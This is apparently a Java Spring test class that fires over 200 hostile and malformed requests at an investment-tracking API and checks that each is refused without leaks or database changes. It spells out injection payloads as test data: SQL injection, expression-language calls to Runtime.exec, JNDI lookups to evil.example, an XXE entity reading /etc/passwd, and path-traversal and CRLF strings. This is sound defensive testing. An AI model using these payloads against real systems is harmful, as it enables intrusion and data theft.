package com.investtrack.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.Callable;
import java.util.regex.Matcher;

import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;

import com.investtrack.support.ApiTestBase;
import com.investtrack.support.TestData;

/**
 * A corpus of malformed and hostile requests: wrong types, missing fields, huge bodies,
 * control characters, expression-language and SQL fragments, XML with entities, other
 * people's projects, bad credentials, bad CSRF tokens, path tricks. Every one must be
 * answered 4xx (never 5xx), no answer may show a stack trace or internals, and nothing
 * may change in the database (refused logins and denied accesses are audited, nothing
 * else).
 */
class HostileInputApiTest extends ApiTestBase {

	private static final List<String> LEAKS = List.of("Exception", "at com.", "at org.", "at java.", "\tat ",
			"Caused by", "org.springframework", "org.camunda", "java.lang", "SQL", "Apache Tomcat", "Whitelabel");

	private static final String JSON = MediaType.APPLICATION_JSON_VALUE;

	record Attempt(String name, Callable<Answer> send) {
	}

	record Answer(int status, String body) {
	}

	@LocalServerPort
	int port;

	private final HttpClient http = HttpClient.newBuilder()
		.version(HttpClient.Version.HTTP_1_1)
		.followRedirects(HttpClient.Redirect.NEVER)
		.connectTimeout(Duration.ofSeconds(10))
		.build();

	private final List<Attempt> attempts = new ArrayList<>();

	private long victim;

	private String pendingTask;

	@Test
	void everyHostileRequestIsRefusedWithout5xxLeaksOrChanges() throws Exception {
		victim = createProject("officer", today().minusDays(60));
		long leadsProject = createProject("lead", today().minusDays(60));
		pendingTask = advance("lead", leadsProject, "SIGNING", today().minusDays(5)).body()
			.get("pendingApproval")
			.get("taskId")
			.asText();
		Map<String, Object> before = snapshot();

		projectCreation();
		otherPeoplesProjects();
		projectSteps();
		decisions();
		queries();
		thresholdsAndAdministration();
		mediaTypesAndSizes();
		credentials();
		pathsAndMethods();
		sessionsWithBadCsrfTokens();
		assertThat(attempts).hasSizeGreaterThanOrEqualTo(200);

		SoftAssertions soft = new SoftAssertions();
		for (Attempt attempt : attempts) {
			Answer answer = attempt.send().call();
			String shown = answer.body().length() > 300 ? answer.body().substring(0, 300) + "..." : answer.body();
			soft.assertThat(answer.status()).as(attempt.name() + " -> " + shown).isBetween(400, 499);
			for (String leak : LEAKS) {
				soft.assertThat(answer.body()).as(attempt.name() + " shows internals").doesNotContain(leak);
			}
		}
		soft.assertThat(snapshot()).as("the database after " + attempts.size() + " hostile requests").isEqualTo(before);
		soft.assertAll();
	}

	// the corpus

	private void projectCreation() {
		Map<String, Object> valid = newProject("officer", today().minusDays(3));
		for (String field : List.of("name", "investor", "industryCode", "parkCode", "assetModel",
				"investmentAmountYuan")) {
			Map<String, Object> missing = new LinkedHashMap<>(valid);
			missing.remove(field);
			create("missing " + field, missing);
			create("null " + field, with(valid, field, null));
			create("object as " + field, with(valid, field, Map.of("$gt", "")));
			create("array as " + field, with(valid, field, List.of()));
		}
		for (Object amount : List.of("abc", "NaN", "1e999999", true, 0, -1, "12345678901234567890.123", "0x10",
				"9".repeat(5000))) {
			create("investment amount " + abbreviate(amount), with(valid, "investmentAmountYuan", amount));
		}
		for (Object land : List.of(-5, "big", 1e12)) {
			create("land area " + land, with(valid, "landAreaM2", land));
		}
		for (Object date : List.of("2024-13-45", "yesterday", 20240101, today().plusDays(1).toString(), "1900-01-01",
				"${today}")) {
			create("start date " + date, with(valid, "negotiationStartedOn", date));
		}
		for (String asset : List.of("heavy", "MEDIUM", "${HEAVY}", "HEAVY' OR '1'='1")) {
			create("asset model " + asset, with(valid, "assetModel", asset));
		}
		for (String officer : List.of("officer2", "${officer}", "#{officer}", "officer' --", "ghost")) {
			create("officer " + officer, with(valid, "officer", officer));
		}
		for (String code : List.of("NOPE", "${7*7}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
				"EQUIPMENT' OR '1'='1", "EQUIPMENT;DROP TABLE project", "../../etc/passwd")) {
			create("industry " + code, with(valid, "industryCode", code));
			create("park " + code, with(valid, "parkCode", code));
		}
		for (String text : List.of("a\u0000b", "x\u001b[31mred", "line\nbreak", "tab\tbed", "z".repeat(201))) {
			create("name " + abbreviate(text), with(valid, "name", text));
			create("investor " + abbreviate(text), with(valid, "investor", text));
		}
		create("unknown field id", with(valid, "id", 5));
		create("unknown field createdBy", with(valid, "createdBy", "admin"));
		create("unknown field stage", with(valid, "stage", "PRODUCTION"));
		create("prototype pollution", with(valid, "__proto__", Map.of("admin", true)));
		for (String raw : List.of("", "null", "[]", "\"text\"", "{", "{\"name\":\"a\"", "name=x&investor=y",
				"{\"name\":\"a\",}", "{'name':'a'}", "{\"name\": NaN}")) {
			attempts.add(new Attempt("malformed JSON " + abbreviate(raw), () -> send("POST", "/api/projects", "officer",
					JSON, raw.getBytes(StandardCharsets.UTF_8), Map.of())));
		}
		byte[] invalidUtf8 = { '{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}' };
		attempts.add(new Attempt("invalid UTF-8",
				() -> send("POST", "/api/projects", "officer", JSON, invalidUtf8, Map.of())));
		String nested = "[".repeat(5000) + "]".repeat(5000);
		attempts.add(new Attempt("deeply nested JSON", () -> send("POST", "/api/projects", "officer", JSON,
				nested.getBytes(StandardCharsets.UTF_8), Map.of())));
		Map<String, Object> expression = with(valid, "name",
				"${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}");
		json("auditor creates a project named by an expression", "POST", "/api/projects", "auditor", expression);
		json("admin creates a project named by an expression", "POST", "/api/projects", "admin", expression);
		json("auditor creates a project named by SQL", "POST", "/api/projects", "auditor",
				with(valid, "name", "x'); DELETE FROM project; --"));
		json("disabled user creates a project", "POST", "/api/projects", "disabled", valid);
		json("anonymous creates a project", "POST", "/api/projects", null, valid);
	}

	private void otherPeoplesProjects() {
		Map<String, Object> edit = new LinkedHashMap<>(newProject("officer", null));
		edit.remove("officer");
		edit.remove("negotiationStartedOn");
		edit.put("name", "#{'hijacked'}");
		String project = "/api/projects/" + victim;
		for (String user : List.of("officer2", "auditor", "admin")) {
			json(user + " edits someone else's project", "PUT", project, user, edit);
			json(user + " advances someone else's project", "POST", project + "/advance", user,
					Map.of("to", "SIGNING", "effectiveOn", today().minusDays(1).toString()));
			json(user + " drops someone else's project", "POST", project + "/drop", user,
					Map.of("effectiveOn", today().minusDays(1).toString(), "reason", "${reason}"));
		}
		for (String user : List.of("officer", "officer2", "auditor", "admin")) {
			json(user + " reassigns", "POST", project + "/reassign", user, Map.of("officer", "officer2"));
		}
		json("edit with officer field", "PUT", project, "officer", with(edit, "officer", "officer2"));
		json("edit with version field", "PUT", project, "officer", with(edit, "version", 0));
		json("edit with stage field", "PUT", project, "officer", with(edit, "stage", "PRODUCTION"));
		json("edit without name", "PUT", project, "officer", with(edit, "name", null));
		json("edit amount negative", "PUT", project, "officer", with(edit, "investmentAmountYuan", -1));
		json("edit asset model", "PUT", project, "officer", with(edit, "assetModel", "X"));
		for (String id : List.of("abc", "-1", "0", "99999999999999999999", "1.5", "0x10", "1e3",
				String.valueOf(Long.MAX_VALUE))) {
			json("edit project id " + id, "PUT", "/api/projects/" + id, "officer", with(edit, "name", "x"));
			json("advance project id " + id, "POST", "/api/projects/" + id + "/advance", "officer",
					Map.of("to", "SIGNING", "effectiveOn", today().toString()));
		}
	}

	private void projectSteps() {
		String advance = "/api/projects/" + victim + "/advance";
		String yesterday = today().minusDays(1).toString();
		json("advance to production", "POST", advance, "officer", Map.of("to", "PRODUCTION", "effectiveOn", yesterday));
		json("advance backwards", "POST", advance, "officer", Map.of("to", "NEGOTIATION", "effectiveOn", yesterday));
		json("advance to unknown stage", "POST", advance, "officer", Map.of("to", "SIGNED", "effectiveOn", yesterday));
		json("advance to expression", "POST", advance, "officer",
				Map.of("to", "#{'SIGNING'}", "effectiveOn", yesterday));
		json("advance without date", "POST", advance, "officer", Map.of("to", "SIGNING"));
		json("advance into the future", "POST", advance, "officer",
				Map.of("to", "SIGNING", "effectiveOn", today().plusDays(1).toString()));
		json("advance before the stage began", "POST", advance, "officer",
				Map.of("to", "SIGNING", "effectiveOn", "1995-01-01"));
		json("advance with expression date", "POST", advance, "officer",
				Map.of("to", "SIGNING", "effectiveOn", "${today}"));
		json("advance with long comment", "POST", advance, "officer",
				Map.of("to", "SIGNING", "effectiveOn", yesterday, "comment", "c".repeat(2001)));
		json("advance with NUL in comment", "POST", advance, "officer",
				Map.of("to", "SIGNING", "effectiveOn", yesterday, "comment", "ok\u0000"));
		json("advance naming the requester", "POST", advance, "officer",
				Map.of("to", "SIGNING", "effectiveOn", yesterday, "requestedBy", "manager"));
		json("advance pre-approved", "POST", advance, "officer",
				Map.of("to", "SIGNING", "effectiveOn", yesterday, "approved", true));
		json("advance by disabled user", "POST", advance, "disabled",
				Map.of("to", "SIGNING", "effectiveOn", yesterday));
		json("advance anonymously", "POST", advance, null, Map.of("to", "SIGNING", "effectiveOn", yesterday));
		String drop = "/api/projects/" + victim + "/drop";
		json("drop with blank reason", "POST", drop, "officer", Map.of("effectiveOn", yesterday, "reason", "  "));
		json("drop without reason", "POST", drop, "officer", Map.of("effectiveOn", yesterday));
		json("drop with long reason", "POST", drop, "officer",
				Map.of("effectiveOn", yesterday, "reason", "r".repeat(1001)));
		json("drop with bell in reason", "POST", drop, "officer",
				Map.of("effectiveOn", yesterday, "reason", "\u0007bell"));
		json("drop in the future", "POST", drop, "officer",
				Map.of("effectiveOn", today().plusDays(3).toString(), "reason", "x"));
		json("drop with bad date", "POST", drop, "officer", Map.of("effectiveOn", "not a date", "reason", "x"));
		String reassign = "/api/projects/" + victim + "/reassign";
		for (String officer : List.of("ghost", "auditor", "disabled", "${x}", "' OR 1=1 --", "")) {
			json("reassign to " + officer, "POST", reassign, "manager", Map.of("officer", officer));
		}
		json("reassign without officer", "POST", reassign, "manager", Map.of());
	}

	private void decisions() {
		String decision = "/api/tasks/" + pendingTask + "/decision";
		json("requester approves own request", "POST", decision, "lead",
				Map.of("decision", "APPROVE", "comment", "mine"));
		json("requester rejects own request", "POST", decision, "lead",
				Map.of("decision", "REJECT", "comment", "mine"));
		for (String user : List.of("officer", "auditor", "admin", "disabled")) {
			json(user + " decides", "POST", decision, user, Map.of("decision", "APPROVE"));
		}
		json("decision MAYBE", "POST", decision, "manager", Map.of("decision", "MAYBE"));
		json("decision missing", "POST", decision, "manager", Map.of("comment", "x"));
		json("reject without a reason", "POST", decision, "manager", Map.of("decision", "REJECT"));
		json("acknowledge an approval", "POST", decision, "manager", Map.of("decision", "ACKNOWLEDGE"));
		json("decision long comment", "POST", decision, "manager",
				Map.of("decision", "APPROVE", "comment", "c".repeat(2001)));
		json("decision NUL comment", "POST", decision, "manager", Map.of("decision", "APPROVE", "comment", "\u0000"));
		json("decision naming the decider", "POST", decision, "manager",
				Map.of("decision", "APPROVE", "decidedBy", "lead"));
		for (String task : List.of("%24%7BtaskId%7D", "%23%7B1%2B1%7D", "nope", "x".repeat(65),
				"1%27%20OR%20%271%27%3D%271")) {
			json("decision on task " + task, "POST", "/api/tasks/" + task + "/decision", "manager",
					Map.of("decision", "APPROVE"));
		}
	}

	private void queries() {
		for (String q : List.of("size=1000000", "size=0", "size=-1", "page=-1", "page=2147483648", "size=abc",
				"stage=SIGNED", "stage=%24%7Bx%7D", "health=PURPLE", "assetModel=x", "outcome=x",
				"parkCode=%27%20OR%201%3D1--", "industryCode=%24%7Bx%7D", "officer=a%27b", "q=%00",
				"q=" + "q".repeat(101))) {
			get("project list " + q, "/api/projects?" + q, "officer");
		}
		for (String q : List.of("size=201", "page=-1", "size=x")) {
			get("task list " + q, "/api/tasks?" + q, "manager");
			get("rejected list " + q, "/api/tasks/rejected?" + q, "officer");
		}
		for (String q : List.of("size=501", "page=-1", "from=2024-02-30", "to=yesterday", "projectId=1%20OR%201%3D1",
				"projectId=abc", "action=DROP_TABLE", "action=LOGIN_FAILED%27%20OR%20%271%27%3D%271", "actor=%00",
				"actor=" + "a".repeat(65))) {
			get("audit " + q, "/api/audit?" + q, "auditor");
		}
		for (String user : List.of("officer", "officer2", "admin")) {
			get("audit read by " + user, "/api/audit", user);
			get("audit verified by " + user, "/api/audit/verify", user);
		}
		for (String q : List.of("", "from=X&to=SIGNING", "from=PRODUCTION&to=NEGOTIATION",
				"from=NEGOTIATION&to=SIGNING&year=1800", "from=NEGOTIATION&to=SIGNING&year=abc",
				"from=NEGOTIATION&to=SIGNING&parkCode=%27%20OR%201%3D1")) {
			get("durations " + q, "/api/reports/durations?" + q, "manager");
		}
		get("time to production year", "/api/reports/time-to-production?year=99999", "manager");
		get("time to production asset", "/api/reports/time-to-production?assetModel=LIGHT%3BDROP", "manager");
		get("users read by officer", "/api/admin/users", "officer");
		get("users read by manager", "/api/admin/users", "manager");
	}

	private void thresholdsAndAdministration() {
		String threshold = "/api/thresholds/NEGOTIATION";
		json("thresholds by officer", "PUT", threshold, "officer", Map.of("yellowDays", 1, "redDays", 2));
		json("thresholds by auditor", "PUT", threshold, "auditor", Map.of("yellowDays", 1, "redDays", 2));
		for (Map<String, Object> body : List.<Map<String, Object>>of(Map.of("yellowDays", 100, "redDays", 50),
				Map.of("yellowDays", -1, "redDays", 50), Map.of("yellowDays", 0, "redDays", 50),
				Map.of("yellowDays", 10, "redDays", 99999), Map.of("yellowDays", "ten", "redDays", 50), Map.of(),
				Map.of("yellowDays", 10, "redDays", 50, "stage", "SIGNING"))) {
			json("thresholds " + body, "PUT", threshold, "manager", body);
		}
		for (String stage : List.of("FOO", "PRODUCTION", "%24%7Bx%7D", "1")) {
			json("thresholds of stage " + stage, "PUT", "/api/thresholds/" + stage, "manager",
					Map.of("yellowDays", 10, "redDays", 50));
		}

		String rule = "/api/evidence-rules/SIGNING";
		json("evidence rule by manager", "PUT", rule, "manager", Map.of("required", true));
		json("evidence rule by auditor", "PUT", rule, "auditor", Map.of("required", true));
		for (Object body : java.util.Arrays.asList(Map.of("required", "${jndi:ldap://evil.example/a}"),
				Map.of("required", List.of(true)), Map.of("required", Map.of("a", 1)), Map.of(), "true", null)) {
			json("evidence rule " + body, "PUT", rule, "admin", body);
		}
		for (String stage : List.of("FOO", "NEGOTIATION", "%24%7Bx%7D", "1", "signing")) {
			json("evidence rule of stage " + stage, "PUT", "/api/evidence-rules/" + stage, "admin",
					Map.of("required", true));
		}

		String name = "hx" + UUID.randomUUID().toString().substring(0, 8);
		Map<String, Object> account = Map.of("username", name, "displayName", "Hostile", "roles", List.of("OFFICER"),
				"password", "correct horse battery");
		json("user created by manager", "POST", "/api/admin/users", "manager", account);
		json("user created by auditor", "POST", "/api/admin/users", "auditor", account);
		for (Object username : List.of("../admin", "Admin", "${jndi:ldap://evil.example/a}", "a", "officer",
				"x".repeat(33), "o'brien")) {
			json("username " + username, "POST", "/api/admin/users", "admin", with(account, "username", username));
		}
		for (Object password : List.of("short", "p".repeat(201), name, "é".repeat(40))) {
			json("password " + abbreviate(password), "POST", "/api/admin/users", "admin",
					with(account, "password", password));
		}
		for (Object roles : java.util.Arrays.asList(List.of(), List.of("ROOT"), null, "ADMIN", List.of("${x}"))) {
			json("roles " + roles, "POST", "/api/admin/users", "admin", with(account, "roles", roles));
		}
		json("display name NUL", "POST", "/api/admin/users", "admin", with(account, "displayName", "\u0000"));
		json("user pre-enabled", "POST", "/api/admin/users", "admin", with(account, "enabled", true));
		json("roles of nobody", "PUT", "/api/admin/users/nobody1/roles", "admin", Map.of("roles", List.of("OFFICER")));
		json("no roles for officer", "PUT", "/api/admin/users/officer/roles", "admin", Map.of("roles", List.of()));
		json("expression role for officer", "PUT", "/api/admin/users/officer/roles", "admin",
				Map.of("roles", List.of("${x}")));
		json("roles of OFFICER", "PUT", "/api/admin/users/OFFICER/roles", "admin", Map.of("roles", List.of("ADMIN")));
		json("roles by officer", "PUT", "/api/admin/users/officer/roles", "officer", Map.of("roles", List.of("ADMIN")));
		json("admin disables themselves", "POST", "/api/admin/users/admin/disable", "admin", null);
		json("admin drops own ADMIN role", "PUT", "/api/admin/users/admin/roles", "admin",
				Map.of("roles", List.of("AUDITOR")));
		json("disable nobody", "POST", "/api/admin/users/nobody1/disable", "admin", null);
		json("enable nobody", "POST", "/api/admin/users/nobody1/enable", "admin", null);
		json("manager disables officer", "POST", "/api/admin/users/officer/disable", "manager", null);
		json("short password reset", "PUT", "/api/admin/users/officer/password", "admin", Map.of("password", "short"));
		json("password reset of nobody", "PUT", "/api/admin/users/nobody1/password", "admin",
				Map.of("password", "correct horse battery"));
		json("password reset without password", "PUT", "/api/admin/users/officer/password", "admin", Map.of());
		json("password reset by officer", "PUT", "/api/admin/users/officer2/password", "officer",
				Map.of("password", "correct horse battery"));

		Map<String, Object> park = Map.of("code", "HX-" + name.substring(2).toUpperCase(), "name", "Park", "district",
				"D");
		json("park by manager", "POST", "/api/admin/parks", "manager", park);
		for (Object code : List.of("js imp", "${X}", "P".repeat(40), "JS-IMP", "x'--")) {
			json("park code " + code, "POST", "/api/admin/parks", "admin", with(park, "code", code));
		}
		json("park without name", "POST", "/api/admin/parks", "admin", with(park, "name", " "));
		json("park district too long", "POST", "/api/admin/parks", "admin", with(park, "district", "d".repeat(101)));
		json("rename unknown park", "PUT", "/api/admin/parks/NOPE-NOPE", "admin", Map.of("name", "n", "district", "d"));
		json("rename park with NUL", "PUT", "/api/admin/parks/JS-IMP", "admin",
				Map.of("name", "n\u0000", "district", "d"));
		json("rename park by officer", "PUT", "/api/admin/parks/JS-IMP", "officer",
				Map.of("name", "n", "district", "d"));
	}

	private void mediaTypesAndSizes() {
		String xxe = "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
				+ "<project><name>&xxe;</name></project>";
		String valid = write(newProject("officer", today().minusDays(1)));
		for (String type : List.of("application/xml", "text/xml", "text/plain", "application/x-www-form-urlencoded",
				"multipart/form-data; boundary=x", "application/yaml")) {
			attempts.add(new Attempt("body as " + type, () -> send("POST", "/api/projects", "officer", type,
					xxe.getBytes(StandardCharsets.UTF_8), Map.of())));
		}
		attempts.add(new Attempt("valid JSON without content type", () -> send("POST", "/api/projects", "officer", null,
				valid.getBytes(StandardCharsets.UTF_8), Map.of())));
		attempts.add(new Attempt("valid JSON in an unknown charset", () -> send("POST", "/api/projects", "officer",
				"application/json; charset=x-no-such-charset", valid.getBytes(StandardCharsets.UTF_8), Map.of())));
		attempts.add(new Attempt("valid JSON but only XML accepted", () -> send("POST", "/api/projects", "officer",
				JSON, valid.getBytes(StandardCharsets.UTF_8), Map.of("Accept", "application/xml"))));
		attempts.add(new Attempt("garbage Accept header", () -> send("POST", "/api/projects", "officer", JSON,
				valid.getBytes(StandardCharsets.UTF_8), Map.of("Accept", "%%%///"))));
		String twoMegabytes = "{\"name\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}";
		attempts.add(new Attempt("2 MB body", () -> send("POST", "/api/projects", "officer", JSON,
				twoMegabytes.getBytes(StandardCharsets.UTF_8), Map.of())));
		attempts.add(new Attempt("2 MB chunked body",
				() -> sendChunked("/api/projects", "officer", twoMegabytes.getBytes(StandardCharsets.UTF_8))));
		String seventyKilobytes = write(with(newProject("officer", null), "name", "n".repeat(70 * 1024)));
		attempts.add(new Attempt("70 KB body", () -> send("POST", "/api/projects", "officer", JSON,
				seventyKilobytes.getBytes(StandardCharsets.UTF_8), Map.of())));
		String sixtyKilobytes = write(with(newProject("officer", null), "name", "n".repeat(60 * 1024)));
		attempts.add(new Attempt("60 KB name", () -> send("POST", "/api/projects", "officer", JSON,
				sixtyKilobytes.getBytes(StandardCharsets.UTF_8), Map.of())));
		attempts.add(new Attempt("20 KB query string",
				() -> send("GET", "/api/projects?q=" + "q".repeat(20 * 1024), "officer", null, null, Map.of())));
		attempts.add(new Attempt("thousand parameters",
				() -> send("GET", "/api/projects?" + "size=x&".repeat(1000), "officer", null, null, Map.of())));
	}

	private void credentials() {
		Map<String, String> headers = new LinkedHashMap<>();
		headers.put("no scheme", "officer:demo");
		headers.put("bare Basic", "Basic");
		headers.put("not base64", "Basic !!!***");
		headers.put("no colon", "Basic " + b64("nouserhere"));
		headers.put("empty user and password", "Basic " + b64(":"));
		headers.put("unknown user", "Basic " + b64("ghost-" + UUID.randomUUID().toString().substring(0, 8) + ":demo"));
		headers.put("JNDI lookup as user", "Basic " + b64("${jndi:ldap://evil.example/a}:x"));
		headers.put("SQL as user", "Basic " + b64("hx' OR '1'='1:' OR '1'='1"));
		headers.put("NUL user", "Basic " + b64("\u0000:demo"));
		headers.put("disabled user", "Basic " + b64("disabled:demo"));
		headers.put("bearer token", "Bearer eyJhbGciOiJub25lIn0.e30.");
		headers.put("digest", "Digest username=\"officer\", realm=\"x\"");
		headers.put("12 KB credentials", "Basic " + b64("hx" + "u".repeat(9000) + ":p"));
		headers.forEach((name,
				value) -> attempts.add(new Attempt("credentials: " + name,
						() -> send("POST", "/api/projects", null, JSON,
								write(newProject("officer", null)).getBytes(StandardCharsets.UTF_8),
								Map.of("Authorization", value)))));
		attempts.add(new Attempt("credentials: none on a GET",
				() -> send("GET", "/api/projects", null, null, null, Map.of())));
	}

	private void pathsAndMethods() {
		for (String path : List.of("/api/projects/..%2F..%2Fetc%2Fpasswd", "/api/projects/%2e%2e/%2e%2e/admin/users",
				"/api/./projects", "/api//projects", "/api/projects/1;jsessionid=abc", "/api/projects/1%00",
				"/api/projects/1%0d%0aSet-Cookie:%20x=y", "/css/..%2f..%2fapplication.properties",
				"/api/projects/%5c..%5c", "/WEB-INF/web.xml", "/api/projects/1/../../admin/users", "/actuator/env",
				"/actuator/heapdump", "/engine-rest/process-instance", "/api/%2e%2e/admin/users",
				"/api/projects/%252e%252e", "/static/../application.properties", "/api/projects/%ff")) {
			get("path " + path, path, "officer");
		}
		String project = "/api/projects/" + victim;
		attempts.add(new Attempt("DELETE a project", () -> send("DELETE", project, "officer", null, null, Map.of())));
		attempts.add(new Attempt("PATCH a project", () -> send("PATCH", project, "officer", JSON,
				"{\"officer\":\"officer2\"}".getBytes(StandardCharsets.UTF_8), Map.of())));
		attempts.add(new Attempt("PUT the parks",
				() -> send("PUT", "/api/parks", "admin", JSON, "[]".getBytes(StandardCharsets.UTF_8), Map.of())));
		attempts.add(new Attempt("DELETE the audit trail",
				() -> send("DELETE", "/api/audit", "manager", null, null, Map.of())));
		attempts.add(new Attempt("auditor DELETEs the audit trail",
				() -> send("DELETE", "/api/audit", "auditor", null, null, Map.of())));
		attempts.add(new Attempt("TRACE", () -> send("TRACE", "/api/projects", "officer", null, null, Map.of())));
		attempts.add(new Attempt("DELETE a user",
				() -> send("DELETE", "/api/admin/users/officer", "admin", null, null, Map.of())));
		attempts.add(new Attempt("POST to verify", () -> send("POST", "/api/audit/verify", "manager", JSON,
				"{}".getBytes(StandardCharsets.UTF_8), Map.of())));
	}

	private void sessionsWithBadCsrfTokens() throws Exception {
		MockHttpSession officer = login("officer", TestData.PASSWORD);
		MockHttpSession manager = login("manager", TestData.PASSWORD);
		MockHttpSession admin = login("admin", TestData.PASSWORD);
		String adminsToken = csrfTokenOnThePage(admin);
		String body = write(newProject("officer", today().minusDays(1)));
		session("session POST without token", officer,
				MockMvcRequestBuilders.post("/api/projects").contentType(JSON).content(body));
		session("session POST with bogus header token", officer,
				MockMvcRequestBuilders.post("/api/projects")
					.header("X-CSRF-TOKEN", "bogus")
					.contentType(JSON)
					.content(body));
		session("session POST with another session's token", officer,
				MockMvcRequestBuilders.post("/api/projects")
					.header("X-CSRF-TOKEN", adminsToken)
					.contentType(JSON)
					.content(body));
		session("session POST with expression token", officer,
				MockMvcRequestBuilders.post("/api/projects")
					.param("_csrf", "${_csrf.token}")
					.contentType(JSON)
					.content(body));
		session("session edit without token", officer,
				MockMvcRequestBuilders.put("/api/projects/" + victim).contentType(JSON).content(body));
		session("session decision with invalid token", manager,
				MockMvcRequestBuilders.post("/api/tasks/" + pendingTask + "/decision")
					.with(csrf().useInvalidToken())
					.contentType(JSON)
					.content("{\"decision\":\"APPROVE\"}"));
		session("session thresholds with invalid token", manager,
				MockMvcRequestBuilders.put("/api/thresholds/NEGOTIATION")
					.with(csrf().useInvalidToken())
					.contentType(JSON)
					.content("{\"yellowDays\":1,\"redDays\":2}"));
		session("user form with invalid token", admin,
				MockMvcRequestBuilders.post("/admin/users")
					.with(csrf().useInvalidToken())
					.param("username", "hxform")
					.param("displayName", "x")
					.param("password", "correct horse battery")
					.param("roles", "ADMIN"));
		session("disable form with the token in the query", admin,
				MockMvcRequestBuilders.post("/admin/users/officer/disable?_csrf=" + adminsToken.substring(1)));
		session("role form without token", admin,
				MockMvcRequestBuilders.post("/admin/users/officer/roles").param("roles", "ADMIN"));
		session("logout with invalid token", officer,
				MockMvcRequestBuilders.post("/logout").with(csrf().useInvalidToken()));
		session("page form of an officer", officer,
				MockMvcRequestBuilders.post("/admin/users/officer/roles").with(csrf()).param("roles", "ADMIN"));
		session("password form with bad password", admin,
				MockMvcRequestBuilders.post("/admin/users/officer/password").with(csrf()).param("password", "short"));
	}

	// sending

	private void create(String name, Map<String, Object> body) {
		json("create: " + name, "POST", "/api/projects", "officer", body);
	}

	private void json(String name, String method, String path, String user, Object body) {
		byte[] bytes = body == null ? null : write(body).getBytes(StandardCharsets.UTF_8);
		attempts.add(new Attempt(name, () -> send(method, path, user, bytes == null ? null : JSON, bytes, Map.of())));
	}

	private void get(String name, String path, String user) {
		attempts.add(new Attempt(name, () -> send("GET", path, user, null, null, Map.of())));
	}

	private void session(String name, MockHttpSession session, MockHttpServletRequestBuilder request) {
		attempts.add(new Attempt(name, () -> {
			MockHttpServletResponse response = mvc.perform(request.session(session)).andReturn().getResponse();
			return new Answer(response.getStatus(), response.getContentAsString());
		}));
	}

	private Answer send(String method, String path, String user, String contentType, byte[] body,
			Map<String, String> headers) throws Exception {
		HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
			.timeout(Duration.ofSeconds(60))
			.method(method, body == null ? BodyPublishers.noBody() : BodyPublishers.ofByteArray(body));
		if (user != null) {
			request.header("Authorization", "Basic " + b64(user + ":" + TestData.PASSWORD));
		}
		if (contentType != null) {
			request.header("Content-Type", contentType);
		}
		headers.forEach(request::header);
		var response = http.send(request.build(), BodyHandlers.ofString(StandardCharsets.UTF_8));
		return new Answer(response.statusCode(), response.body());
	}

	private Answer sendChunked(String path, String user, byte[] body) throws Exception {
		HttpRequest request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
			.timeout(Duration.ofSeconds(60))
			.header("Authorization", "Basic " + b64(user + ":" + TestData.PASSWORD))
			.header("Content-Type", JSON)
			.POST(BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body)))
			.build();
		var response = http.send(request, BodyHandlers.ofString(StandardCharsets.UTF_8));
		return new Answer(response.statusCode(), response.body());
	}

	private String csrfTokenOnThePage(MockHttpSession session) throws Exception {
		String page = mvc.perform(MockMvcRequestBuilders.get("/admin/users").session(session))
			.andReturn()
			.getResponse()
			.getContentAsString();
		Matcher m = java.util.regex.Pattern.compile("name=\"_csrf\" value=\"([^\"]+)\"").matcher(page);
		assertThat(m.find()).as("the page carries a CSRF token").isTrue();
		return m.group(1);
	}

	// the database before and after

	private Map<String, Object> snapshot() {
		Map<String, Object> s = new LinkedHashMap<>();
		for (String table : List.of("project", "milestone", "approval_request", "ACT_RU_TASK", "ACT_RU_EXECUTION",
				"ACT_RU_VARIABLE", "app_user", "app_user_role", "park", "industry")) {
			s.put(table, jdbc.sql("SELECT COUNT(*) FROM " + table).query(Long.class).single());
		}
		s.put("audit entries that record changes",
				jdbc.sql("SELECT COUNT(*) FROM audit_entry WHERE action NOT IN ('LOGIN_FAILED', 'ACCESS_DENIED')")
					.query(Long.class)
					.single());
		s.put("project versions", jdbc.sql("SELECT COALESCE(SUM(version), 0) FROM project").query(Long.class).single());
		s.put("user states",
				jdbc.sql("SELECT username, enabled, auth_version, password_hash FROM app_user ORDER BY username")
					.query()
					.listOfRows()
					.toString());
		s.put("parks", jdbc.sql("SELECT code, name, district FROM park ORDER BY code").query().listOfRows().toString());
		s.put("evidence rules",
				jdbc.sql("SELECT stage, evidence_required FROM evidence_rule ORDER BY stage")
					.query()
					.listOfRows()
					.toString());
		s.put("thresholds",
				jdbc.sql("SELECT stage, yellow_days, red_days FROM stage_threshold ORDER BY stage")
					.query()
					.listOfRows()
					.toString());
		s.put("pending approval",
				jdbc.sql("SELECT status FROM approval_request WHERE task_id = ?")
					.param(pendingTask)
					.query(String.class)
					.single());
		return s;
	}

	// helpers

	private static Map<String, Object> with(Map<String, Object> body, String field, Object value) {
		Map<String, Object> copy = new LinkedHashMap<>(body);
		copy.put(field, value);
		return copy;
	}

	private String write(Object body) {
		try {
			return json.writeValueAsString(body);
		}
		catch (Exception ex) {
			throw new IllegalArgumentException(ex);
		}
	}

	private static String b64(String text) {
		return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
	}

	private static String abbreviate(Object value) {
